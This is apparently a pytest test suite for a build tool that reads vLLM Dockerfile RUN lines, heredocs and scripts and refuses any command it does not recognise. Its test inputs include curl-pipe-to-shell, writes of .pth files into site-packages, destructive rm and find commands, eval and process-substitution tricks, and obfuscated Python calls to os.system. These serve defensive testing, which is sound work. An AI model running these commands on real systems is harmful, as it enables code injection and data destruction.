"""Default-deny: every RUN of the target's stage chain, and every script, ``sh -c``/``bash -c`` string and
heredoc it runs, is an install the reader understands, a command of the harmless table, shell text read
in turn, or refused naming the line, the construct and the way through (``--accept-undecided``).

Each construct is one line added to the target stage of the miniature release (tests/fx_sdist.py); the
property tests add an unknown command anywhere in the chain (a RUN line, an ``sh -c`` string, a called
script) and require exit 2 naming it, on the miniature (fast) and on the shipped releases' sdists (slow)."""

from __future__ import annotations

import json
import re
import time

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builder.cli import main
from builder.errors import BadInput
from builder.resolve import recipe as R
from builder.resolve.recipe.derive import audit_derive
from builder.resolve.recipe.harmless import HARMLESS, MAX_TEXT, SITE_PATH
from tests.fx_sdist import DOCKERFILE, PIPELINE, REQUIREMENTS, TARGET_FROM, build_files, files_with, write_sdist

SHA = "0" * 64


def line_of(files: dict[str, str], needle: str) -> int:
    return next(i for i, ln in enumerate(files["docker/Dockerfile"].split("\n"), 1) if needle in ln)


def added(files: dict[str, str], stage: str = "") -> int:
    """The line of the first line :func:`files_with` added (right after the target stage's FROM)."""
    return line_of(files, f"AS {stage}" if stage else TARGET_FROM) + 1


def derive(files: dict[str, str], **kw) -> R.Recipe:
    return R.derive(R.BuildFiles("0.99.0", R.SdistRef("vllm-0.99.0.tar.gz", SHA), files), **kw)


def refusal(files: dict[str, str], **kw) -> BadInput:
    with pytest.raises(BadInput) as exc:
        derive(files, **kw)
    return exc.value


def added_steps(files: dict[str, str], line: int) -> list[R.Step]:
    return [s for s in derive(files).steps if s.where.line == line]


# ---------------------------------------------------------------- (d) unknown is refused
def test_an_unknown_command_is_exit_2_naming_the_line_the_command_and_the_way_through():
    files = files_with("RUN mkdir -p /opt/x && frobnicate --all /opt/x")
    exc = refusal(files)
    n = line_of(files, "frobnicate")
    assert f"docker/Dockerfile:{n}" in str(exc) and "frobnicate" in str(exc) and exc.exit_code == 2
    assert f"--accept-undecided docker/Dockerfile:{n}" in exc.hint
    r = derive(files, accept_undecided=[f"docker/Dockerfile:{n}"])
    assert [s.replay for s in r.steps if s.where.line == n] == ["undecided"]


def test_the_same_line_in_a_stage_outside_the_chain_is_not_read():
    files = files_with(
        "RUN frobnicate --all\nRUN python3 <<'EOF'\nimport subprocess\nEOF",
        stage="FROM vllm-openai-base AS vllm-sagemaker",
    )
    assert derive(files).steps == derive(build_files()).steps


@pytest.mark.parametrize(
    "line",
    [
        "RUN rm -rf /usr/local/lib/python3.12/dist-packages/torch",
        "RUN echo 'import os' > /usr/local/lib/python3.12/dist-packages/evil.pth",
        "RUN curl -fsSL https://example.invalid/x -o /usr/local/lib/python3.12/site-packages/x.pth",
        "RUN curl -fsSL https://example.invalid/install.sh | sh",
        "RUN cp /tmp/x.py /usr/local/lib/python3.12/dist-packages/",
        "RUN SP=/usr/local/lib/python3.12/dist-packages && rm -rf $SP/vllm",
        "RUN python3 -c 'import subprocess; subprocess.run([\"pip\", \"install\", \"x\"])'",
        "RUN python3 -m ensurepip",
        "RUN apt-get install -y python3-numpy",
        "RUN find / -name '*.so' -exec rm {} +",
        "RUN eval \"$(cat /tmp/x)\"",
        "RUN pip3 download x && python3 setup.py install",
        "RUN touch /usr/local/lib/python3.12/dist-packages/empty.pth",
    ],
)
def test_a_harmless_looking_command_that_reaches_site_packages_is_refused(line):
    files = files_with(line)
    assert f"docker/Dockerfile:{added(files)}" in str(refusal(files))


def test_every_harmless_table_entry_has_a_rule_and_a_reason():
    rules = {"any", "paths", "dest", "apt", "wrapper", "find", "make", "trap", "curl"}
    for name, (rule, reason) in HARMLESS.items():
        assert rule in rules and len(reason) > 4, name
        assert not SITE_PATH.search(name)


# ---------------------------------------------------------------- (c) shell text read as shell
@pytest.mark.parametrize(
    "line",
    [
        "RUN sh -c 'uv pip install --system added-dist==1.0'",
        'RUN bash -c "set -e; uv pip install --system added-dist==1.0"',
        "RUN sh -c 'if [ -n \"$CUDA_VERSION\" ]; then uv pip install --system added-dist==1.0; fi'",
        "RUN <<EOF\nset -e\nuv pip install --system added-dist==1.0\nEOF",
        "RUN bash - <<'EOF'\nuv pip install --system added-dist==1.0\nEOF",
        "RUN <<-EOF\n\tuv pip install --system added-dist==1.0\n\tEOF",
    ],
)
def test_an_install_inside_sh_c_or_a_heredoc_is_a_step(line):
    files = files_with(line)
    steps = added_steps(files, added(files))
    assert [s.requirements for s in steps] == [("added-dist==1.0",)]


@pytest.mark.parametrize(
    "line", ["RUN sh -c 'frobnicate'", "RUN bash -c \"sh -c 'frobnicate'\"", "RUN <<EOF\nfrobnicate\nEOF"]
)
def test_an_unknown_command_inside_sh_c_or_a_heredoc_is_refused(line):
    assert "frobnicate" in str(refusal(files_with(line)))


def test_a_python_heredoc_is_harmless_only_without_an_install():
    assert derive(files_with("RUN python3 <<'EOF'\nimport sys\nprint(sys.version)\nEOF"))
    exc = refusal(files_with("RUN python3 <<'EOF'\nimport subprocess\nsubprocess.run(['uv', 'pip'])\nEOF"))
    assert "subprocess" in str(exc)


def test_the_sh_c_of_the_deepgemm_form_is_refused_not_dropped():
    line = (
        "RUN --mount=type=bind,from=build,source=/tmp/deepgemm/dist,target=/tmp/deepgemm/dist "
        "sh -c 'if ls /tmp/deepgemm/dist/*.whl >/dev/null 2>&1; then uv pip install --system "
        "/tmp/deepgemm/dist/*.whl; else echo no wheel; fi'"
    )
    exc = refusal(files_with(line))
    assert "ls /tmp/deepgemm/dist/*.whl" in str(exc)


SCRIPT = "#!/bin/bash\nset -euo pipefail\necho installing\nuv pip install --system from-script==2.0\n"
ARRAYS = (
    '#!/bin/bash\ndeps=(\n  libfoo\n  libbar\n)\napt-get install -y "${deps[@]}"\n'
    "if [[ $(id -u) -ne 0 ]]; then exit 1; fi\n"
)


def test_a_script_of_the_build_context_is_read_and_its_install_is_a_step():
    files = files_with("COPY tools/inst.sh /tmp/inst.sh\nRUN bash /tmp/inst.sh", {"tools/inst.sh": SCRIPT})
    assert [s.requirements for s in added_steps(files, line_of(files, "RUN bash"))] == [("from-script==2.0",)]
    files = files_with("COPY tools/inst.sh /usr/local/bin/\nRUN /usr/local/bin/inst.sh", {"tools/inst.sh": SCRIPT})
    assert [s.requirements for s in added_steps(files, line_of(files, "RUN /usr"))] == [("from-script==2.0",)]


def test_a_script_the_interpreter_cannot_parse_is_read_lexically():
    files = files_with("COPY tools/deps.sh /tmp/deps.sh\nRUN /tmp/deps.sh", {"tools/deps.sh": ARRAYS})
    assert added_steps(files, line_of(files, "RUN /tmp")) == []
    bad = ARRAYS + "frobnicate\n"
    exc = refusal(files_with("COPY tools/deps.sh /tmp/deps.sh\nRUN /tmp/deps.sh", {"tools/deps.sh": bad}))
    assert "tools/deps.sh:8" in str(exc) and "frobnicate" in str(exc)
    inst = ARRAYS + "pip install x\n"
    exc = refusal(files_with("COPY tools/deps.sh /tmp/deps.sh\nRUN /tmp/deps.sh", {"tools/deps.sh": inst}))
    assert "tools/deps.sh:8" in str(exc) and "installs" in str(exc)


def test_an_unknown_command_in_a_called_script_is_refused_naming_the_script():
    exc = refusal(files_with("COPY tools/x.sh /tmp/x.sh\nRUN bash /tmp/x.sh", {"tools/x.sh": "frobnicate\n"}))
    assert "tools/x.sh" in str(exc) and "frobnicate" in str(exc)


# ---------------------------------------------------------------- bad input
def test_a_script_path_that_leaves_the_build_context_is_exit_2_naming_it():
    exc = refusal(files_with("COPY ../outside.sh /tmp/o.sh\nRUN bash /tmp/o.sh", {"../outside.sh": "true\n"}))
    assert "leaves" in str(exc) and "../outside.sh" in str(exc)


def test_a_script_not_among_the_build_files_is_refused():
    assert "/tmp/gone.sh" in str(refusal(files_with("RUN bash /tmp/gone.sh")))


def test_shell_texts_nested_past_the_bound_are_exit_2():
    text = "frob"
    for _ in range(12):
        text = "sh -c " + json.dumps(text)
    assert "nested" in str(refusal(files_with("RUN " + text.replace("$", "\\$"))))
    exc = refusal(files_with("COPY tools/me.sh /tmp/me.sh\nRUN bash /tmp/me.sh", {"tools/me.sh": "bash /tmp/me.sh\n"}))
    assert "nested" in str(exc)


def test_a_heredoc_without_its_end_is_exit_2_and_acceptable():
    files = files_with("RUN <<EOF\nuv pip install --system x==1")
    n = line_of(files, "RUN <<EOF")
    exc = refusal(files)
    assert f"docker/Dockerfile:{n}" in str(exc) and "never closed" in str(exc)
    r = derive(files, accept_undecided=[f"docker/Dockerfile:{n}"])
    assert [s.replay for s in r.steps if s.where.line == n] == ["undecided"]


def test_a_script_over_the_bound_is_exit_2_naming_it():
    files = files_with(
        "COPY tools/big.sh /tmp/big.sh\nRUN bash /tmp/big.sh", {"tools/big.sh": "true\n" * (MAX_TEXT // 4)}
    )
    assert "tools/big.sh" in str(refusal(files)) and "bytes" in str(refusal(files))


def test_a_huge_script_in_an_index_sdist_is_not_read_and_refused_where_run(tmp_path):
    from builder.resolve import sdist

    big = "#" * (sdist.MAX_BUILD_FILE + 10) + "\n"
    p = write_sdist(
        tmp_path, "0.99.0", {**files_with("COPY tools/big.sh /tmp/big.sh\nRUN bash /tmp/big.sh"), "tools/big.sh": big}
    )
    files = sdist.read_build_files(p, "0.99.0", R.SdistRef(p.name, SHA))
    assert len(files.files["tools/big.sh"]) < 100
    assert "tools/big.sh" in str(refusal(dict(files.files)))


def test_300_nested_ifs_or_substitutions_in_a_run_line_are_exit_2_not_a_crash():
    body = "uv pip install --system deep==1"
    for line in (
        "RUN " + "if true; then " * 300 + body + "; fi" * 300,
        "RUN " + "( " * 300 + body + " )" * 300,
        "RUN X=" + "$(echo " * 300 + "a" + ")" * 300 + " && " + body + "==$X",
    ):
        exc = refusal(files_with(line))
        assert exc.exit_code == 2 and f"docker/Dockerfile:{added(files_with(line))}" in str(exc)


def test_a_pipeline_yaml_nested_20000_deep_is_exit_2_naming_it():
    for text in (
        "[" * 20000 + "]" * 20000,
        "a:\n" + "".join(" " * (i + 1) + "a:\n" for i in range(3000)) + " " * 3001 + "x\n",
    ):
        files = build_files()
        files[".buildkite/release-pipeline.yaml"] = text
        assert ".buildkite/release-pipeline.yaml" in str(refusal(files))


def test_a_yaml_alias_bomb_in_the_pipeline_costs_its_size():
    bomb = "a: &a [1,1,1,1,1,1,1,1,1]\n" + "\n".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join(["*" + chr(97 + i)] * 9) + "]" for i in range(9)
    )
    files = build_files()
    files[".buildkite/release-pipeline.yaml"] = bomb
    t0 = time.monotonic()
    # read in its size (9^10 nodes expanded): refused as a pipeline that publishes nothing
    assert "publishes vllm/vllm-openai:v" in str(refusal(files))
    assert time.monotonic() - t0 < 30


@pytest.mark.parametrize("value", ["docker/Dockerfile", "docker/Dockerfile:", "docker/Dockerfile:x", ":12", "a b:3"])
def test_a_malformed_accept_undecided_is_exit_2(value):
    exc = refusal(build_files(), accept_undecided=[value])
    assert "FILE:LINE" in str(exc)
    r = CliRunner().invoke(main, ["base", "recipe", "--vllm", "0.34.0", "--accept-undecided", value])
    assert r.exit_code == 2 and "FILE:LINE" in r.output


# ---------------------------------------------------------------- installs the reader understands
def test_two_wheel_globs_in_one_install_are_a_step_each():
    line = (
        "RUN --mount=type=bind,from=build,src=/tmp/ep_kernels_workspace/dist,target=/vllm-workspace/ep_kernels/dist "
        "--mount=type=bind,from=build,src=/workspace/dist,target=/vllm-workspace/dist "
        "uv pip install --system ep_kernels/dist/*.whl dist/*.whl"
    )
    files = files_with(line)
    steps = added_steps(files, line_of(files, "ep_kernels/dist/*.whl dist"))
    assert [s.replay for s in steps] == ["source-build", "index"]
    assert steps[1].requirements == ("vllm==0.99.0",)


def test_uv_pip_show_awk_is_the_installed_version():
    line = (
        "RUN X=$(uv pip show --system moon-engine 2>/dev/null | awk '/^Version:/{print $2}') && "
        'if [ -n "$X" ]; then uv pip install --system --no-deps "moon-libs==${X}"; fi'
    )
    files = files_with(line)
    (step,) = added_steps(files, line_of(files, "uv pip show"))
    assert step.requirements == ("moon-libs=={installed:moon-engine}",) and step.when_installed == "moon-engine"


def test_flashinfer_download_cubin_is_recorded_off_the_index():
    r = derive(files_with("RUN flashinfer show-config && flashinfer download-cubin"))
    assert any("download-cubin" in d.value for d in r.off_index_fetches)
    assert any("download-cubin" in x for x in r.lacks()["off_index"])


def test_an_accepted_line_keeps_none_of_its_decisions_and_says_what_they_were():
    files = files_with("RUN uv pip install --system kept-before==1 && frobnicate && uv pip install --system after==2")
    n = line_of(files, "kept-before")
    r = derive(files, accept_undecided=[f"docker/Dockerfile:{n}"])
    (step,) = [s for s in r.steps if s.where.line == n]
    assert step.replay == "undecided" and "kept-before==1" in step.note and "frobnicate" in step.note


# ---------------------------------------------------------------- --audit
def test_audit_has_a_row_per_run_of_the_chain_with_its_conclusion(tmp_path):
    files = files_with("COPY tools/deps.sh /tmp/deps.sh\nRUN /tmp/deps.sh\nRUN frobnicate", {"tools/deps.sh": ARRAYS})
    pkg = "Metadata-Version: 2.1\nName: vllm\nVersion: 0.99.0\n"
    p = write_sdist(tmp_path, "0.99.0", {**files, "PKG-INFO": pkg})
    r = CliRunner().invoke(main, ["base", "recipe", "--sdist", str(p), "--audit", "--json"])
    assert r.exit_code == 2, r.output
    doc = json.loads(r.stdout)
    recipe, rows = audit_derive(R.BuildFiles("0.99.0", R.SdistRef("x", SHA), files), keep_going=True)
    chain_runs = [ln for ln, t in enumerate(files["docker/Dockerfile"].split("\n"), 1) if t.startswith("RUN")]
    assert [int(x["from"].split(":")[1]) for x in doc["runs"]] == [int(str(a.where).split(":")[1]) for a in rows]
    assert set(int(x["from"].split(":")[1]) for x in doc["runs"]) <= set(chain_runs)
    by = {x["from"]: x for x in doc["runs"]}
    frob = f"docker/Dockerfile:{line_of(files, 'RUN frobnicate')}"
    assert doc["refused"] == [frob] and by[frob]["conclusion"].startswith("refused")
    deps = by[f"docker/Dockerfile:{line_of(files, 'RUN /tmp/deps.sh')}"]
    assert deps["conclusion"].startswith("harmless") and any(c["from"] == "tools/deps.sh:6" for c in deps["commands"])
    assert any(x["conclusion"].startswith("installs") for x in doc["runs"])
    text = CliRunner().invoke(main, ["base", "recipe", "--sdist", str(p), "--audit", "--accept-undecided", frob])
    assert text.exit_code == 0 and f"{frob}: accepted undecided" in text.output


# ---------------------------------------------------------------- the property
CHAIN_STAGES = ("vllm-runtime-base", "vllm-base", "vllm-openai-base", "vllm-openai")


def chain_instructions(dockerfile: str) -> list:
    pre, stages = R.parse_dockerfile(dockerfile)
    return [i for s in R.stage_chain(stages, "vllm-openai") for i in s.instructions]


def inject(files: dict[str, str], how: str, k: int, name: str) -> tuple[dict[str, str], int]:
    """The files with ``name`` (an unknown command) run by the chain; returns them and the RUN line named."""
    files = dict(files)
    lines = files["docker/Dockerfile"].split("\n")
    ins = chain_instructions(files["docker/Dockerfile"])
    runs = [i for i in ins if i.op == "RUN" and not i.heredocs and "<<" not in lines[i.line - 1]]
    if how == "run-line":
        at = ins[k % len(ins)].line
        lines.insert(at - 1, f"RUN {name} --now")
        files["docker/Dockerfile"] = "\n".join(lines)
        return files, at
    run = runs[k % len(runs)]
    if how == "sh-c":
        lines[run.end - 1] += f" ; sh -c '{name} --now'"
        files["docker/Dockerfile"] = "\n".join(lines)
        return files, run.line
    script = "tools/injected.sh"
    files[script] = f"#!/bin/bash\nset -e\necho start\n{name} --now\necho done\n"
    lines[run.end - 1] += " ; bash /tmp/injected.sh"
    lines.insert(run.line - 1, "COPY tools/injected.sh /tmp/injected.sh")
    files["docker/Dockerfile"] = "\n".join(lines)
    return files, run.line + 1


@given(
    how=st.sampled_from(["run-line", "sh-c", "script"]), k=st.integers(0, 400), name=st.from_regex(r"\Azz[a-z]{3,8}\Z")
)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_an_unknown_command_anywhere_in_the_chain_turns_exit_0_into_exit_2_naming_it(how, k, name):
    base = build_files()
    derive(base)  # exit 0 before
    files, line = inject(base, how, k, name)
    exc = refusal(files)
    assert name in str(exc) and re.search(rf"docker/Dockerfile:{line}\b", str(exc)), str(exc)


SHIPPED = [("0.26.0", "amd64"), ("0.30.0", "amd64"), ("0.34.0", "amd64"), ("0.34.0", "arm64")]


@pytest.mark.slow
@pytest.mark.parametrize("vllm,arch", SHIPPED)
def test_the_property_on_shipped_releases(vllm, arch):
    from pathlib import Path

    import tomllib

    from builder import platforms
    from builder.resolve import sdist

    tables = tomllib.loads(Path("lockfiles/base/recipes.toml").read_text())["release"]
    real = sdist.load(vllm, sha256=tables[vllm]["sdist_sha256"])
    plat = platforms.parse(f"linux/{arch}")
    bf = R.BuildFiles(vllm, real.sdist, dict(real.files))
    R.derive(bf, platform=plat)

    @given(how=st.sampled_from(["run-line", "sh-c", "script"]), k=st.integers(0, 400))
    @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    def check(how, k):
        files, line = inject(dict(real.files), how, k, "zzunknowncmd")
        with pytest.raises(BadInput) as exc:
            R.derive(R.BuildFiles(vllm, real.sdist, files), platform=plat)
        assert "zzunknowncmd" in str(exc.value) and f"docker/Dockerfile:{line}" in str(exc.value)

    check()


def test_the_miniature_keeps_its_recipe():
    # the fixture's own steps are unchanged by the default-deny reader (a regression here changes every lock)
    r = derive(build_files())
    assert [s.replay for s in r.steps] and all(s.replay != "undecided" for s in r.steps)
    assert DOCKERFILE and PIPELINE and REQUIREMENTS


def test_the_command_substitutions_of_a_heredoc_run_first_and_must_be_harmless():
    exc = refusal(files_with("RUN cat > /etc/x.conf <<EOF\nkey=$(frobnicate)\nEOF"))
    assert "frobnicate" in str(exc)
    assert derive(files_with("RUN cat > /etc/x.conf <<EOF\nkey=$(date +%s)\nEOF"))


def test_an_accepted_line_s_note_lists_the_installs_its_text_holds():
    line = "RUN sh -c 'if ls /tmp/w/*.whl; then uv pip install --system /tmp/w/*.whl; fi'"
    files = files_with(line)
    n = added(files)
    (step,) = [s for s in derive(files, accept_undecided=[f"docker/Dockerfile:{n}"]).steps if s.where.line == n]
    assert "uv pip install --system /tmp/w/*.whl" in step.note


@pytest.mark.parametrize(
    "line",
    [
        "COPY vllm/v1 /usr/local/lib/python${PYTHON_VERSION}/dist-packages/vllm/v1",
        "ADD https://example.invalid/x.pth /usr/local/lib/python3.12/site-packages/",
        "WORKDIR /usr/local/lib/python3.12",
        "RUN cp /tmp/x.so /usr/local/lib/python3.12/d*-packages/",
        "RUN cd /usr/local/lib/python3.12 && cp /tmp/x.so d*/",
    ],
)
def test_a_copy_workdir_or_glob_into_a_python_folder_is_refused_and_acceptable(line):
    files = files_with(line)
    n = added(files)
    assert f"docker/Dockerfile:{n}" in str(refusal(files))
    r = derive(files, accept_undecided=[f"docker/Dockerfile:{n}"])
    assert [s.replay for s in r.steps if s.where.line == n] == ["undecided"]


@pytest.mark.parametrize(
    "text",
    [
        "import importlib; importlib.import_module('sub' + 'process').run(['uv'])",
        "__import__('o' + 's').system('x')",
        "getattr(__builtins__, 'ex' + 'ec')('x')",
        "from os import system as s; s('x')",
        "import pathlib; pathlib.Path('/x').write_text('y')",
    ],
)
def test_python_text_that_reaches_a_program_or_a_write_indirectly_is_refused(text):
    files = files_with(f"RUN python3 <<'EOF'\n{text}\nEOF")
    assert f"docker/Dockerfile:{added(files)}" in str(refusal(files))


@pytest.mark.parametrize(
    "lines",
    [
        "ENV UV_INDEX_URL=https://mirror.invalid/simple",
        "ARG PIP_EXTRA_INDEX_URL=https://mirror.invalid/simple",
        "ENV PYTHONPATH=/opt/extra",
    ],
)
def test_an_installer_setting_that_changes_what_resolves_refuses_the_installs_after_it(lines):
    files = files_with(lines, stage="FROM ${FINAL_BASE_IMAGE} AS vllm-runtime-base")
    exc = refusal(files)
    assert lines.split()[1].split("=")[0] in str(exc)
    assert f"docker/Dockerfile:{added(files, 'vllm-runtime-base')}" in str(exc)  # where it was set


def test_an_installer_setting_before_one_install_is_refused_an_empty_arg_is_not():
    assert "UV_EXTRA_INDEX_URL" in str(
        refusal(files_with("RUN UV_EXTRA_INDEX_URL=https://m.invalid/ uv pip install --system x==1"))
    )
    files = files_with(
        "ARG PIP_INDEX_URL\nARG UV_INDEX_URL=${PIP_INDEX_URL}", stage="FROM ${FINAL_BASE_IMAGE} AS vllm-runtime-base"
    )
    assert [s.requirements for s in derive(files).steps] == [s.requirements for s in derive(build_files()).steps]


@pytest.mark.parametrize(
    "opts", ["--target /opt/lib", "--python /opt/venv/bin/python", "-e .", "--find-links /w", "--user", "--frobnicate"]
)
def test_an_install_option_the_reader_does_not_model_is_refused(opts):
    files = files_with(f"RUN uv pip install --system {opts} some-dist==1")
    assert opts.split()[0] in str(refusal(files))


def test_a_checkout_s_scripts_are_read_and_one_linked_out_is_refused(tmp_path):
    import subprocess

    from builder.resolve import sdist

    outside = tmp_path / "outside.sh"
    outside.write_text("uv pip install --system smuggled==1\n")
    repo = tmp_path / "vllm"
    files = files_with(
        "COPY tools/inst.sh /tmp/inst.sh\nRUN bash /tmp/inst.sh\nCOPY tools/out.sh /tmp/out.sh\nRUN bash /tmp/out.sh",
        {"tools/inst.sh": SCRIPT},
    )
    for rel, text in files.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    (repo / "tools" / "out.sh").symlink_to(outside)
    git = ["git", "-C", str(repo), "-c", "user.email=t@e", "-c", "user.name=t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-qm", "x"], check=True)
    # a committed link leaving the checkout is refused when the checkout is read, naming it: nothing it
    # points at is read
    with pytest.raises(BadInput) as e:
        sdist.load_source(repo, "0.99.0")
    assert "tools/out.sh" in str(e.value) and "outside the checkout" in str(e.value)
    assert "smuggled" not in str(e.value)
    (repo / "tools" / "out.sh").unlink()
    subprocess.run([*git, "rm", "-q", "--cached", "tools/out.sh"], check=True)
    subprocess.run([*git, "commit", "-qm", "y"], check=True)
    bf = sdist.load_source(repo, "0.99.0")
    assert bf.files["tools/inst.sh"] == SCRIPT and "tools/out.sh" not in bf.files
    exc = refusal(dict(bf.files))  # the RUN line that runs a script the checkout lacks is refused
    assert "/tmp/out.sh" in str(exc)
    n = line_of(files, "RUN bash /tmp/out.sh")
    r = derive(dict(bf.files), accept_undecided=[f"docker/Dockerfile:{n}"])
    assert ("from-script==2.0",) in [s.requirements for s in r.steps]


SHELL_BITS = [
    "$(",
    ")",
    "(",
    "'",
    '"',
    "`",
    "<<EOF",
    "<<-X",
    "EOF",
    "X",
    "case",
    "in",
    "esac",
    ";;",
    "[[",
    "]]",
    "{",
    "}",
    "for",
    "do",
    "done",
    "if",
    "then",
    "fi",
    "else",
    "\n",
    ";",
    "&&",
    "||",
    "|",
    ">",
    "<",
    ">&2",
    "&>",
    "$X",
    "${X",
    "${X:-a}",
    "${X,,}",
    "X=1",
    "sh -c",
    "bash",
    "/tmp/s.sh",
    ". /etc/environment",
    "python3 -c",
    "uv pip install --system",
    "pip install",
    "echo",
    "rm -rf",
    "dist-packages",
    "a",
    "b",
    "\\",
    "#",
    "$((1+2))",
]


@given(bits=st.lists(st.sampled_from(SHELL_BITS), max_size=30))
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_shell_text_in_a_run_line_is_read_or_refused_never_a_crash(bits):
    text = " ".join(bits)
    files = files_with("COPY tools/s.sh /tmp/s.sh\nRUN " + text.replace("\n", " \\\n"), {"tools/s.sh": text})
    try:
        derive(files)
    except BadInput as exc:
        assert exc.exit_code == 2


@pytest.mark.parametrize(
    "line",
    [
        "RUN echo `uv pip install --system hidden==1`",
        "RUN X=`pip install hidden` && echo $X",
        'RUN if [ "`pip install hidden`" ]; then echo; fi',
        "RUN diff <(pip install hidden) /dev/null",
        "RUN tee >(sh) < /dev/null",
    ],
)
def test_a_command_in_backquotes_or_a_process_substitution_is_never_hidden(line):
    files = files_with(line)
    assert f"docker/Dockerfile:{added(files)}" in str(refusal(files))


def test_an_install_behind_a_plain_wrapper_is_a_step_and_env_settings_are_seen():
    files = files_with("RUN sudo uv pip install --system wrapped==1")
    assert [s.requirements for s in added_steps(files, added(files))] == [("wrapped==1",)]
    exc = refusal(files_with("RUN env UV_INDEX_URL=https://m.invalid/simple uv pip install --system x==1"))
    assert "UV_INDEX_URL" in str(exc)
